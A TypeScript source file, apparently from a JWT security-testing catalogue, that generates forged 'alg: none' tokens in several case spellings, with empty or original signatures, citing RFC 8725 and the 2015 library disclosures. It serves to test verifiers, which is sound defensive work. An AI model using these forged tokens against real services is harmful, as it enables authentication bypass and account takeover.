import type { ForgedAttack } from '../attack-types.js';
import {
  forgeToken,
  originalSignature,
  withHeader,
  type CatalogueContext,
} from './catalogue-context.js';

/** Spellings of `none`: patches that compared case-sensitively let the others through. */
const NONE_SPELLINGS = ['none', 'None', 'NONE', 'nOnE'] as const;

/**
 * Unsecured JWS (RFC 7515 §A.5): the header says `alg: none`, in several spellings, with an
 * empty signature and with the original one left in place. The 2015 disclosures (node-jsonwebtoken, PyJWT,
 * php-jwt and others). RFC 8725 §3.1 and §3.2: a
 * verifier must take the algorithm from its key, never from the token.
 *
 * @example
 * const attacks = buildAlgNoneAttacks(context);
 */
export function buildAlgNoneAttacks(context: CatalogueContext): ForgedAttack[] {
  const { parts } = context;
  return NONE_SPELLINGS.flatMap((alg) => {
    const header = withHeader(parts, { alg });
    return [
      {
        id: `alg-none/${alg}-empty-signature`,
        category: 'alg-none' as const,
        sent: `header alg "${alg}", original claims, empty signature`,
        token: forgeToken(header, parts.payload, { segment: '' }),
      },
      {
        id: `alg-none/${alg}-with-signature`,
        category: 'alg-none' as const,
        sent: `header alg "${alg}", original claims, original signature kept`,
        token: forgeToken(header, parts.payload, originalSignature(parts)),
      },
    ];
  });
}
